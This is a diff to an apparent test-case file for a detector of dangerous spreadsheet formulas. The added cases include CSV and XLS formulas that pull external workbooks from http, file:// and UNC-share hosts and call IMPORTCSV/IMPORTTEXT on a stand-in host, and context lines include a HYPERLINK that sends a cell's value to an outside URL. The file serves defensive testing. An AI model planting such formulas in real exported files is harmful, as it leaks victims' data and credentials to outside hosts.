@@ -87,6 +87,12 @@ _DANGEROUS: Final = (
     _case("call-of-a-cell.csv", "a;b\n1;=IMAGE( $A$1)\n", "call"),
     _case("call-of-cells-by-number.csv", "a;b\n1;=IMAGE(RC[-1])\n", "call"),
     _case("link-of-a-label.csv", "a;b\n1;=HYPERLINK('a')\n", "link"),
+    _case("workbook-elsewhere.csv", "a,b\n1,='http://h.example/[a.xlsx]S'!A1\n", "call"),
+    _case("workbook-on-a-share.csv", "a;b\n1;\"=1+'\\\\10.0.0.1\\s\\[a.xlsx]S'!A1\"\n", "call"),
+    _case("workbook-of-a-host.csv", "='file://h.example/s/a.ods'#$S.A1\n", "call"),
+    _case("name-on-a-share.xls", _page("='\\\\10.0.0.1\\s\\a.xlsx'!name"), "call"),
+    _case("import.csv", 'a\n"=IMPORTCSV(""http://h.example/"")"\n', "call"),
+    _case("import-of-text.csv", 'a\n"=IMPORTTEXT(""http://h.example/"")"\n', "call"),
     _case("link.csv", 'a,b\n1,"=HYPERLINK(""http://a.example/?""&A1,""Click"")"\n', "link"),
     _case("link-plus.csv", 'a,b\n1,"+HYPERLINK(""http://a.example"")"\n', "link"),
 )
@@ -114,6 +120,10 @@ _HONEST: Final = (
     _case("lists.csv", "".join(f"{at};{line}\n" for at, line in enumerate(_LISTS))),
     _case("lists-with-commas.csv", "".join(f'{at},"{line}"\n' for at, line in enumerate(_LISTS))),
     _case("lists.xls", _page(*_LISTS)),
+    _case(
+        "other-sheets.csv", "='Jan:Dec'!A1,=SUM('My sheet'!A1:B9)\n='C:\\a\\[b.xlsx]S'!A1,='file:///a/b.ods'#$S.A1\n"
+    ),
+    _case("talk-in-quotes.csv", "a,b\n- see 'http://h.example/'! or 'x'!,-don't 'do' it!\n"),
     _case("open-quote.csv", 'size,name\n5",desk\n-1,"x\n'),
 )
 CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
